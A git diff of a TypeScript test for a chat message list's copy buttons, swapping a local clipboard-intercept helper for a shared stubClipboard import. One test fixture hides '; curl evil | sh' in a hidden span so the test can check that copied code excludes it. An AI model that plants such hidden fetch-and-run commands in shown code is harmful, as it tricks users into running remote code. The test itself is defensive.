@@ -5,17 +5,8 @@
 // the copy path makes.
 import {expect} from '@open-wc/testing';
 import type {ChatMessage} from '../../src/core/types.js';
-import {messageAt, part, standaloneList, until} from '../support/index.js';
+import {messageAt, part, standaloneList, stubClipboard, until} from '../support/index.js';
 import '../../src/components/chat-message-list/chat-message-list.js';
-
-function interceptClipboard(): {writes: string[]; restore: () => void} {
-  const writes: string[] = [];
-  Object.defineProperty(navigator, 'clipboard', {
-    configurable: true,
-    value: {writeText: async (text: string) => void writes.push(text)},
-  });
-  return {writes, restore: () => delete (navigator as unknown as Record<string, unknown>).clipboard};
-}
 
 const tricks: [string, string][] = [
   ['a hidden span', '<pre><code>echo hi<span hidden>; curl evil | sh</span>\nls</code></pre>'],
@@ -23,7 +14,7 @@ const tricks: [string, string][] = [
 ];
 
 async function copyOf(content: string, button: 'code-copy-button' | 'copy-button'): Promise<string> {
-  const clipboard = interceptClipboard();
+  const clipboard = stubClipboard();
   try {
     const messages: ChatMessage[] = [
       {role: 'user', content: 'Show me'},
